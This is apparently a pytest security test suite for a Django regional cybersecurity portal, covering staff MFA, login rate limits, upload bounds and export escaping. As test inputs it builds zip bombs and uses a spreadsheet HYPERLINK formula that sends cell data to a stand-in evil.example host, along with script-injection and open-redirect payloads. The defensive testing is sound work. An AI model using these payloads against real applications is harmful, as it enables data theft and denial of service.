"""Security gate, second wave (issue 9): what a first real use found, each with the test that failed before.

Written against the URL resolver and the registries rather than a hand-kept list where it can: a module added
later is covered by the same rules (staff pages need this session's MFA step, every admin import is region-scoped,
every archive upload is bounded).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from allauth.mfa.models import Authenticator
from allauth.mfa.totp.internal.auth import TOTP, format_hotp_value, hotp_value, yield_hotp_counters_from_time
from django.conf import settings
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from establishments.roles import StaffKind
from tests.establishments.factories import RegionFactory, StaffAssignmentFactory
from tests.mfa_sessions import force_login_password_only

from .urlwalk import gated_routes

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)
PASSWORD = "motdepasse-solide-123"  # tests.establishments.factories.UserFactory
PRODUCTION_RATE_LIMITS = {
    "login": "30/m/ip",
    "login_failed": "10/m/ip,5/5m/key",
    "signup": "20/m/ip",
    "confirm_email": "1/3m/key",
    "reset_password": "20/m/ip,5/m/key",
}


def _totp_code(secret: str) -> str:
    counters = list(yield_hotp_counters_from_time())
    return format_hotp_value(hotp_value(secret, counters[len(counters) // 2]))


@pytest.fixture
def officer(db):
    """A CRRC officer with a real TOTP secret (and every permission of the "Équipe CRRC" group)."""
    user = StaffAssignmentFactory(region=RegionFactory(code="76"), kind=StaffKind.CRRC_STAFF).user
    user.secret = "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP"
    TOTP.activate(user, user.secret)
    return user


@pytest.fixture
def superuser(db):
    from tests.establishments.factories import UserFactory

    user = UserFactory(email="root@example.org", is_staff=True, is_superuser=True)
    user.secret = "KRSXG5CTMVRXEZLUKN2XAZLSKNSXI4TF"
    TOTP.activate(user, user.secret)
    return user


# ---------------------------------------------------------------------------------------------------------------
# 1. Staff MFA: the admin log-in goes through allauth; the rule checks this session
# ---------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["officer", "superuser"])
def test_admin_login_form_posted_with_a_password_opens_no_admin_session(request, who):
    user = request.getfixturevalue(who)
    client = Client()
    response = client.post(reverse("admin:login"), {"username": user.email, "password": PASSWORD, "next": "/admin/"})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))
    assert "_auth_user_id" not in client.session
    for url in ("/admin/", "/instruction/"):
        answer = client.get(url)
        assert answer.status_code == 302, url
        assert "/accounts/login/" in answer["Location"] or "/admin/login/" in answer["Location"], url


def test_admin_login_page_is_allauth_login_with_next():
    response = Client().get(reverse("admin:login") + "?next=/admin/establishments/")
    assert response.status_code == 302
    assert response["Location"] == reverse("account_login") + "?next=%2Fadmin%2Festablishments%2F"
    # An outside "next" is dropped, not followed.
    response = Client().get(reverse("admin:login") + "?next=https://evil.example/")
    assert response["Location"] == reverse("account_login") + "?next=%2Fadmin%2F"


def test_allauth_login_then_totp_reaches_the_admin(officer):
    client = Client()
    response = client.post(reverse("account_login") + "?next=/admin/", {"login": officer.email, "password": PASSWORD})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("mfa_authenticate"))
    assert "_auth_user_id" not in client.session  # the password alone signs nobody in
    response = client.post(reverse("mfa_authenticate"), {"code": _totp_code(officer.secret)})
    assert response.status_code == 302
    assert response["Location"] == "/admin/"
    assert client.get("/admin/").status_code == 200


def test_many_wrong_passwords_then_the_right_one_is_refused(officer, settings):
    settings.ACCOUNT_RATE_LIMITS = PRODUCTION_RATE_LIMITS
    cache.clear()
    client = Client()
    url = reverse("account_login")
    for _attempt in range(25):
        client.post(url, {"login": officer.email, "password": "mauvais-mot-de-passe"})
    # The admin's door opens nothing (it used to log in here, without limit or MFA)…
    client.post(reverse("admin:login"), {"username": officer.email, "password": PASSWORD})
    assert "_auth_user_id" not in client.session
    # …and allauth's refuses the right password after so many wrong ones.
    response = client.post(url, {"login": officer.email, "password": PASSWORD})
    assert not (response.status_code == 302 and response["Location"].startswith(reverse("mfa_authenticate")))
    assert response.status_code in (200, 429)
    assert "mfa.authenticate" not in str(dict(client.session))
    cache.clear()


def test_password_only_staff_session_is_sent_to_the_mfa_step_on_every_page(officer):
    """Every gated page (and the admin) sends a staff session without its MFA step to allauth's MFA step."""
    client = Client()
    force_login_password_only(client, officer)
    urls = ["/admin/", "/admin/establishments/establishment/"]
    urls += [f"/{route.route}" for route in gated_routes() if not route.kwargs]
    assert len(urls) > 5
    not_sent = []
    for url in urls:
        response = client.get(url)
        location = response.get("Location", "")
        if not (response.status_code == 302 and location.startswith(reverse("mfa_reauthenticate"))):
            not_sent.append(f"GET {url}: {response.status_code} {location}")
    assert not not_sent, "\n".join(not_sent)


def test_mfa_step_in_the_session_lets_staff_through_and_returns_to_the_page(officer):
    client = Client()
    force_login_password_only(client, officer)
    response = client.get("/admin/?x=1")
    assert response["Location"] == reverse("mfa_reauthenticate") + "?next=%2Fadmin%2F%3Fx%3D1"
    response = client.post(response["Location"], {"code": _totp_code(officer.secret)})
    assert response.status_code == 302
    assert response["Location"] == "/admin/?x=1"
    assert client.get("/admin/").status_code == 200


@pytest.mark.django_db(transaction=True)  # allauth signals the new authenticator on commit, within the request
def test_setting_up_totp_counts_as_this_sessions_mfa_step():
    from allauth.mfa.totp.internal.auth import SECRET_SESSION_KEY

    user = StaffAssignmentFactory(region=RegionFactory(code="76"), kind=StaffKind.CRRC_STAFF).user
    client = Client()
    force_login_password_only(client, user)
    assert client.get("/admin/")["Location"] == reverse("mfa_activate_totp")
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
    page = client.get(reverse("mfa_activate_totp"))
    assert page.status_code == 200
    secret = client.session[SECRET_SESSION_KEY]
    client.post(reverse("mfa_activate_totp"), {"code": _totp_code(secret)})
    assert Authenticator.objects.filter(user=user, type=Authenticator.Type.TOTP).exists()
    assert client.get("/admin/").status_code == 200


# ---------------------------------------------------------------------------------------------------------------
# 7. Rate limits in the shared cache; trusted proxies from the environment
# ---------------------------------------------------------------------------------------------------------------


def _settings_in(env: dict, module: str = "crrc.settings.production") -> dict:
    code = (
        "import json, django; django.setup(); from django.conf import settings as s; "
        "print(json.dumps({'cache': s.CACHES['default'], 'proxies': s.ALLAUTH_TRUSTED_PROXY_COUNT, "
        "'db': s.DATABASES['default'].get('OPTIONS', {})}))"
    )
    base = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL", "CACHE_URL", "CELERY_BROKER_URL"}}
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=ROOT,
        env={**base, "DJANGO_SETTINGS_MODULE": module, "SECRET_KEY": "x" * 60, **env},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_production_counts_login_attempts_in_redis_and_trusts_the_configured_proxies():
    found = _settings_in({"REDIS_URL": "redis://redis:6379/2", "TRUSTED_PROXY_COUNT": "1"})
    assert found["cache"]["BACKEND"] == "crrc.cache.PortalRedisCache"  # Django's Redis cache, its client kept
    assert found["cache"]["LOCATION"] == "redis://redis:6379/2"
    assert found["proxies"] == 1
    # Without REDIS_URL, a redis:// broker is the shared cache.
    found = _settings_in({"CELERY_BROKER_URL": "redis://redis:6379/0"})
    assert found["cache"]["BACKEND"] == "crrc.cache.PortalRedisCache"  # Django's Redis cache, its client kept
    assert found["proxies"] == 0


def test_demo_without_redis_keeps_local_memory_and_sqlite_waits_for_its_lock():
    found = _settings_in({"DATABASE_URL": "sqlite:///demo.sqlite3"}, module="crrc.settings.base")
    assert found["cache"]["BACKEND"] == "django.core.cache.backends.locmem.LocMemCache"
    assert found["db"] == {"transaction_mode": "IMMEDIATE", "timeout": 20}


def test_readme_documents_the_proxy_count():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert "TRUSTED_PROXY_COUNT" in readme and "CACHE_URL" in readme


# ---------------------------------------------------------------------------------------------------------------
# 5 and 9. Zip bombs, damaged files, macros, and the bounds of the FINESS admin import
# ---------------------------------------------------------------------------------------------------------------

ZIP_STRUCTURES = {
    "docx": {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"},
    "xlsx": {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
    "pptx": {"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"},
    "odt": {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<c/>"},
    "ods": {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<c/>"},
}


def _zip(entries: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb(kind: str) -> bytes:
    """The document's structure plus one entry that inflates 4 MB out of a few KB (ratio above 1000)."""
    entries = dict(ZIP_STRUCTURES[kind])
    if kind in {"odt", "ods"}:
        # The issue's ODS: its ``mimetype`` entry itself is the bomb.
        entries["mimetype"] = entries["mimetype"] + b" " * (4 * 2**20)
    else:
        entries["xl/sharedStrings.xml" if kind == "xlsx" else "docProps/custom.xml"] = b"\0" * (4 * 2**20)
    return _zip(entries)


def _upload(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


@pytest.mark.parametrize("kind", sorted(ZIP_STRUCTURES))
def test_every_archive_type_accepted_for_uploads_refuses_a_bomb(kind):
    from django.core.exceptions import ValidationError

    from crrc.uploads import FILE_TYPES, validate_upload

    with pytest.raises(ValidationError) as info:
        validate_upload(_upload(f"piece{FILE_TYPES[kind].extensions[0]}", _bomb(kind)), [kind], 10 * 2**20)
    assert info.value.code == "archive_bomb"
    assert "bombe zip" in info.value.messages[0]


def test_archive_bounds_cover_entry_size_total_size_and_entry_count():
    from django.core.exceptions import ValidationError

    from crrc.uploads import ArchiveBounds, check_archive

    data = _zip({f"f{i}.xml": b"<a/>" * 100 for i in range(20)})
    assert len(check_archive(data)) == 20
    for bounds in (
        ArchiveBounds(max_entries=10),
        ArchiveBounds(max_entry_bytes=100),
        ArchiveBounds(max_total_bytes=4000),
    ):
        with pytest.raises(ValidationError):
            check_archive(data, bounds)
    with pytest.raises(ValidationError) as info:
        check_archive(b"PK\x03\x04 not really a zip")
    assert info.value.code == "archive_damaged"


def test_every_admin_import_format_refuses_bombs_and_damaged_archives():
    """Walks the admin registry: any ModelAdmin with an import (now or later) reads archives within bounds."""
    from django.contrib import admin
    from import_export.admin import ImportMixin

    checked = []
    for model, model_admin in admin.site._registry.items():
        if not isinstance(model_admin, ImportMixin):
            continue
        for format_class in model_admin.get_import_formats():
            fmt = format_class()
            if not fmt.is_binary():
                continue
            kind = fmt.get_extension()
            for data in (_bomb(kind), b"PK\x03\x04" + b"\x00" * 100):
                with pytest.raises(ValueError) as info:
                    fmt.create_dataset(data)
                message = str(info.value)
                assert "BadZipFile" not in message and ("bombe zip" in message or "endommagé" in message), message
            checked.append(f"{model._meta.label}:{kind}")
    assert "establishments.Establishment:xlsx" in checked and "establishments.Establishment:ods" in checked


def test_action_plan_xlsx_import_refuses_a_bomb():
    from django.core.exceptions import ValidationError

    from action_plans.xlsx import check_xlsx_upload

    with pytest.raises(ValidationError) as info:
        check_xlsx_upload(_upload("suivi.xlsx", _bomb("xlsx")))
    assert "trop volumineux" in info.value.messages[0]


@pytest.fixture
def admin_import(db, superuser):
    """POST a file to the establishments' admin import as the (MFA-passed) superuser; returns the response."""
    client = Client()
    client.force_login(superuser)

    def post(name: str, data: bytes, label: str):
        url = reverse("admin:establishments_establishment_import")
        form = client.get(url).context["form"]
        choice = next(value for value, text in form.fields["format"].choices if str(text).lower() == label)
        return client.post(url, {"format": choice, "import_file": _upload(name, data), "resource": "0"})

    return post


def _import_error(response) -> str:
    errors = response.context["form"].errors.get("import_file", [])
    assert errors, "the import should have been refused next to the file field"
    return " ".join(errors)


def test_finess_admin_import_refuses_a_bomb_a_damaged_file_and_macros_in_french(admin_import):
    assert "bombe zip" in _import_error(admin_import("finess.xlsx", _bomb("xlsx"), "xlsx"))
    assert "endommagé" in _import_error(admin_import("finess.xlsx", b"PK\x03\x04garbage", "xlsx"))
    macro = _zip({**ZIP_STRUCTURES["xlsx"], "xl/vbaProject.bin": b"\0" * 10})
    assert "macros" in _import_error(admin_import("finess.xlsx", macro, "xlsx"))
    assert "BadZipFile" not in _import_error(admin_import("finess.ods", b"PK\x03\x04garbage", "ods"))


def test_finess_admin_import_bounds_size_and_rows_and_points_to_import_finess(admin_import):
    from establishments.resources import ADMIN_IMPORT_MAX_BYTES, ADMIN_IMPORT_MAX_ROWS

    header = "nofinesset;nofinessej;rs;departement\n"
    too_big = (header + "310780259;310780259;" + "x" * 200 + ";31\n" * 1).encode() * (ADMIN_IMPORT_MAX_BYTES // 200)
    message = _import_error(admin_import("finess.csv", too_big, "csv"))
    assert "import_finess" in message
    too_many = (header + "310780259;310780259;CH;31\n" * (ADMIN_IMPORT_MAX_ROWS + 1)).encode()
    assert len(too_many) < ADMIN_IMPORT_MAX_BYTES
    assert "import_finess" in _import_error(admin_import("finess.csv", too_many, "csv"))
    assert "UTF-8" in _import_error(admin_import("finess.csv", header.encode() + "Hôpital".encode("cp1252"), "csv"))


# ---------------------------------------------------------------------------------------------------------------
# 6. Formula injection: one helper for every export, and re-imports read the escaped value back
# ---------------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")'


def test_the_helper_escapes_formula_like_text_only_and_reads_it_back():
    from crrc.exports import safe_cell, unescape_cell

    for text in (FORMULA, "+33 1 23", "-1+1", "@SUM(A1)", "\t=1"):
        assert safe_cell(text) == "'" + text
        assert unescape_cell(safe_cell(text)) == text
    assert safe_cell("Sauvegardes") == "Sauvegardes" and safe_cell(-3) == -3 and safe_cell(None) == ""
    assert unescape_cell("'ordinaire") == "'ordinaire"  # an apostrophe the user typed stays


def test_action_plan_xlsx_writes_no_formula_and_round_trips_the_title():
    import io

    from openpyxl import load_workbook

    from action_plans import services, xlsx
    from action_plans.models import ActionItem
    from establishments.roles import Role
    from tests.action_plans.factories import member
    from tests.establishments.factories import EstablishmentFactory

    establishment = EstablishmentFactory()
    manager = member(establishment, Role.RSSI)
    item = services.create_item(establishment, manager, title=FORMULA, description="@danger")
    content = xlsx.export_plan(establishment, ActionItem.objects.filter(pk=item.pk))
    sheet = load_workbook(io.BytesIO(content))[xlsx.SHEET]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    titles = [
        cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value and FORMULA in str(cell.value)
    ]
    assert titles == ["'" + FORMULA]
    from django.core.files.uploadedfile import SimpleUploadedFile

    result = xlsx.import_plan(establishment, SimpleUploadedFile("suivi.xlsx", content), manager)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 1)
    item.refresh_from_db()
    assert (item.title, item.description) == (FORMULA, "@danger")


def test_every_admin_export_escapes_formulas():
    """Walks the admin registry: every ExportMixin admin (now or later) offers only escaping formats."""
    from django.contrib import admin
    from import_export.admin import ExportMixin

    from crrc.exports import SAFE_EXPORT_FORMATS

    unsafe = [
        f"{model._meta.label}: {fmt.__name__}"
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
        for fmt in model_admin.get_export_formats()
        if not issubclass(fmt, tuple(SAFE_EXPORT_FORMATS))
    ]
    assert not unsafe, unsafe


@pytest.mark.parametrize("fmt_name", ["csv", "xlsx", "ods"])
def test_establishment_admin_export_escapes_and_its_import_reads_back(fmt_name):
    import io

    from django.contrib import admin

    from establishments.models import Establishment
    from establishments.resources import EstablishmentResource
    from tests.establishments.factories import EstablishmentFactory

    EstablishmentFactory(name=FORMULA)
    model_admin = admin.site._registry[Establishment]
    fmt = next(f for f in model_admin.get_export_formats() if f().get_extension() == fmt_name)()
    data = fmt.export_data(EstablishmentResource().export())
    raw = data if isinstance(data, bytes) else data.encode()
    if fmt_name == "csv":
        assert f",'{FORMULA[:10]}" in data or f"\"'{FORMULA[:10]}" in data
    else:
        import tablib

        assert "'" + FORMULA in tablib.Dataset().load(io.BytesIO(raw), format=fmt_name)["rs"]
    import_fmt = next(f for f in model_admin.get_import_formats() if f().get_extension() == fmt_name)()
    assert FORMULA in import_fmt.create_dataset(raw if import_fmt.is_binary() else raw)["rs"]


# ---------------------------------------------------------------------------------------------------------------
# 8. Region branding: logo by content, served as an image; host names validated; e-mail links to served hosts
# ---------------------------------------------------------------------------------------------------------------

PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


def _region_change(client, region, **changes):
    data = {
        "code": region.code,
        "name": region.name,
        "ars_name": region.ars_name,
        "grades_name": region.grades_name,
        "crrc_name": region.crrc_name,
        "contact_email": region.contact_email,
        "hostname": region.hostname,
        "primary_colour": region.primary_colour,
        "secondary_colour": region.secondary_colour,
        **changes,
    }
    return client.post(reverse("admin:establishments_region_change", args=[region.pk]), data)


@pytest.mark.parametrize(
    "name, content",
    [
        ("logo.html", b"<html><script>alert(1)</script></html>"),
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("logo.png", b"<html><script>alert(1)</script></html>"),
    ],
)
def test_region_logo_must_be_an_image_by_content(superuser, name, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    region = RegionFactory(code="76")
    client = Client()
    client.force_login(superuser)
    response = _region_change(client, region, logo=SimpleUploadedFile(name, content))
    assert response.status_code == 200
    assert "logo" in response.context["adminform"].form.errors
    region.refresh_from_db()
    assert not region.logo


@pytest.mark.parametrize("bad", ['x"><script>alert(1)</script>', "https://crrc.example.org/", "crrc.example.org:8443"])
def test_region_host_name_must_be_a_host_name(superuser, bad):
    region = RegionFactory(code="76", hostname="")
    client = Client()
    client.force_login(superuser)
    response = _region_change(client, region, hostname=bad)
    assert response.status_code == 200
    assert "hostname" in response.context["adminform"].form.errors
    region.refresh_from_db()
    assert region.hostname == ""


def test_logo_is_served_as_an_image_with_nosniff_and_a_stored_non_image_is_not_served(db):
    from django.core.files.base import ContentFile

    region = RegionFactory(code="76")
    region.logo.save("logo.png", ContentFile(PNG_1PX))
    response = Client().get(reverse("branding_logo", args=["76"]))
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    # A file stored before the check (the issue's logo.html) is never served, whatever its name.
    region.logo.save("logo.html", ContentFile(b"<html><script>alert(1)</script></html>"))
    assert Client().get(reverse("branding_logo", args=["76"])).status_code == 404


def test_email_links_go_only_to_configured_hosts(db, settings):
    from crrc.links import portal_url

    settings.ALLOWED_HOSTS = ["portail.crrc.example", "cyber.occitanie.example"]
    settings.PORTAL_BASE_URL = "https://portail.crrc.example"
    region = RegionFactory(code="76", hostname="cyber.occitanie.example")
    assert portal_url("/x/", region) == "https://cyber.occitanie.example/x/"
    # A host the deployment does not serve, or a value written straight into the database, falls back.
    for stored in ("evil.example", 'x"><script>', "cyber.occitanie.example/phish"):
        type(region).objects.filter(pk=region.pk).update(hostname=stored)
        region.refresh_from_db()
        assert portal_url("/x/", region) == "https://portail.crrc.example/x/"


# ---------------------------------------------------------------------------------------------------------------
# 10. Bad ids are a 404 or a form error, never a 500
# ---------------------------------------------------------------------------------------------------------------

_FIELD_READ = re.compile(r"""request\.(?:POST|GET)(?:\.get|\.getlist|\[)\(?\s*["']([\w-]+)["']""")


def _fields_read_by_views() -> set[str]:
    """Every request field a view of the project reads by name (``request.POST.get("subject_id")``…)."""
    from django.apps import apps

    names: set[str] = set()
    for config in apps.get_app_configs():
        path = Path(config.path)
        if not str(path).startswith(str(ROOT)) or ".venv" in path.parts:
            continue
        for source in path.rglob("*.py"):
            names.update(_FIELD_READ.findall(source.read_text(encoding="utf-8")))
    return names


@pytest.mark.parametrize("role", ["director_a", "crrc_staff_a"])
def test_no_view_answers_500_to_an_absurd_id(role):
    """Every gated URL (with A's own objects), POST and GET, every field a view reads set to a 30-digit number or a
    word: 4xx, a redirect or a form error, never a crash."""
    from .urlwalk import Unresolvable, build_url
    from .world import build_world

    world = build_world()
    client = Client(raise_request_exception=False)
    client.force_login(world.users[role], backend="django.contrib.auth.backends.ModelBackend")
    fields = _fields_read_by_views()
    assert {"subject_id", "applications"} <= fields
    crashes = []
    for route in gated_routes():
        try:
            url = build_url(route, world.a)
        except Unresolvable:
            continue
        for value in ("9" * 30, "abc", "-1"):
            payload = dict.fromkeys(fields, value)
            for method in ("post", "get"):
                response = getattr(client, method)(url, payload)
                if response.status_code >= 500:
                    crashes.append(f"{method.upper()} {url} with {value!r}: {response.status_code}")
    assert not crashes, "\n".join(crashes)


def test_the_issues_three_500s_are_now_4xx_or_form_errors():
    """/documents/etablissement/<id>/demander/ (subject_id), the reviewers' unassign and labels actions."""
    from reports import registry

    from .world import build_world

    world = build_world()
    client = Client(raise_request_exception=False)
    client.force_login(world.users["crrc_staff_a"], backend="django.contrib.auth.backends.ModelBackend")
    director = Client(raise_request_exception=False)
    director.force_login(world.users["director_a"], backend="django.contrib.auth.backends.ModelBackend")
    from calls.models import Application

    application = world.a.owned[Application]
    for bad in ("9" * 30, "abc", "-5"):
        for kind in [entry.kind for entry in registry.kinds()]:
            response = director.post(
                reverse("reports:request", args=[world.a.establishment.pk]), {"kind": kind, "subject_id": bad}
            )
            assert response.status_code in (400, 404), (kind, bad, response.status_code)
        for action, field in (("unassign", "reviewer"), ("labels", "labels"), ("assign", "reviewer")):
            url = reverse("calls_review:act", args=[application.pk, action])
            response = client.post(url, {field: bad})
            assert response.status_code in (302, 400, 404), (action, bad, response.status_code)


# ---------------------------------------------------------------------------------------------------------------
# 11. Small leaks: sign-up answers alike for known and new addresses; dates in a sane window
# ---------------------------------------------------------------------------------------------------------------


class CountingHasher:
    """Counts password hashes: the costly step whose absence gave known addresses away by their answer time."""

    calls = 0


def _counting_hasher_class():
    from django.contrib.auth.hashers import MD5PasswordHasher

    class Counting(MD5PasswordHasher):
        algorithm = "md5"

        def encode(self, password, salt):
            CountingHasher.calls += 1
            return super().encode(password, salt)

    return Counting


def test_sign_up_does_the_same_work_for_a_known_and_a_new_address(settings, monkeypatch):
    from django.contrib.auth import hashers

    from tests.establishments.factories import UserFactory

    UserFactory(email="connu@example.org")
    counting = _counting_hasher_class()
    monkeypatch.setattr(hashers, "get_hasher", lambda algorithm="default": counting())
    answers = {}
    for email in ("connu@example.org", "nouveau@example.org"):
        CountingHasher.calls = 0
        response = Client().post(
            reverse("account_signup"),
            {"email": email, "password1": "Phare-Corail-2026!", "password2": "Phare-Corail-2026!"},
        )
        answers[email] = (response.status_code, response.get("Location"), CountingHasher.calls)
    known, new = answers["connu@example.org"], answers["nouveau@example.org"]
    assert known == new, answers  # same status, same redirect, same number of password hashes
    assert new[2] >= 1


def test_sane_date_refuses_1900_and_far_future_in_french():
    from datetime import date, timedelta

    from django.core.exceptions import ValidationError

    from crrc.validators import sane_date

    sane_date(date(2000, 1, 1))
    sane_date(date.today() + timedelta(days=365 * 9))
    for bad in (date(1900, 1, 1), date(1999, 12, 31), date.today() + timedelta(days=365 * 11)):
        with pytest.raises(ValidationError) as info:
            sane_date(bad)
        assert "Date invraisemblable" in info.value.messages[0]


def test_every_admin_date_field_has_the_sane_window():
    """Walks every admin and inline form of the project (later modules included)."""
    from django import forms
    from django.contrib import admin
    from django.test import RequestFactory

    from crrc.validators import sane_date
    from tests.establishments.factories import UserFactory

    request = RequestFactory().get("/admin/")
    request.user = UserFactory(email="dates@example.org", is_staff=True, is_superuser=True)
    missing = []
    for model, model_admin in admin.site._registry.items():
        if model._meta.app_label in {"auth", "account", "mfa", "socialaccount", "sites"}:
            continue
        exempt = set(getattr(model_admin, "historical_date_fields", ()))
        form_classes = [(model._meta.label, model_admin.get_form(request), exempt)]
        for inline in model_admin.get_inline_instances(request):
            form_classes.append(
                (f"{model._meta.label} › {inline.model._meta.label}", inline.get_formset(request).form, set())
            )
        for label, form_class, exempt_fields in form_classes:
            for name, field in form_class.base_fields.items():
                is_date = isinstance(field, forms.DateField | forms.DateTimeField | forms.SplitDateTimeField)
                if is_date and name not in exempt_fields and sane_date not in field.validators:
                    missing.append(f"{label}.{name}")
    assert not missing, missing


def test_action_item_deadline_of_1900_is_refused_in_the_form_and_the_xlsx_import():
    import io

    from django.core.files.uploadedfile import SimpleUploadedFile
    from openpyxl import load_workbook

    from action_plans import services, xlsx
    from action_plans.forms import ActionItemForm
    from action_plans.models import ActionItem
    from establishments.roles import Role
    from tests.action_plans.factories import member
    from tests.establishments.factories import EstablishmentFactory

    establishment = EstablishmentFactory()
    manager = member(establishment, Role.RSSI)
    form = ActionItemForm(
        {"title": "Sauvegardes", "deadline": "1900-01-01", "priority": "P2", "progress": 0},
        owners=type(manager).objects.none(),
    )
    assert not form.is_valid()
    assert "Date invraisemblable" in " ".join(form.errors["deadline"])
    item = services.create_item(establishment, manager, title="Sauvegardes")
    book = load_workbook(io.BytesIO(xlsx.export_plan(establishment, ActionItem.objects.filter(pk=item.pk))))
    sheet = book[xlsx.SHEET]
    column = next(i for i, c in enumerate(xlsx.COLUMNS, start=1) if c.key == "deadline")
    sheet.cell(row=2, column=column, value="01/01/1900")
    buffer = io.BytesIO()
    book.save(buffer)
    with pytest.raises(xlsx.ImportRefused) as info:
        xlsx.import_plan(establishment, SimpleUploadedFile("suivi.xlsx", buffer.getvalue()), manager)
    assert any("invraisemblable" in error.reason for error in info.value.errors), info.value.errors
    item.refresh_from_db()
    assert item.deadline is None
